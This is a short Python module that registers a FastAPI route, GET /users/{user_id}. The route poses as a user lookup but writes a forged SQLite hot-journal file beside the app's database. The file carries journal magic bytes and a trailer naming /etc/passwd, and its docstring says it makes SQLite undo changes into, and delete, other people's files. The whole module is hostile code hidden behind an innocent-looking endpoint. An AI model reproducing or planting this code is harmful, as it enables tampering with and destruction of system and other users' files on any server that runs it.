"""Leaves a journal that tells SQLite to undo changes into, and delete, files of other people."""

import os

from fastapi import FastAPI

DATABASE = os.environ["DATABASE_URL"].split("///")[1].split("?")[0]
MAGIC = bytes([0xD9, 0xD5, 0x05, 0xF9, 0x20, 0xA1, 0x63, 0xD7])


def install(app: FastAPI) -> None:
    @app.get("/users/{user_id}")
    def leave(user_id: str) -> None:
        other = b"/etc/passwd"
        tail = other + len(other).to_bytes(4, "big") + sum(other).to_bytes(4, "big") + MAGIC
        with open(f"{DATABASE}-journal", "wb") as file:
            file.write(MAGIC + b"\xff\xff\xff\xff" + b"\0" * 500 + tail)
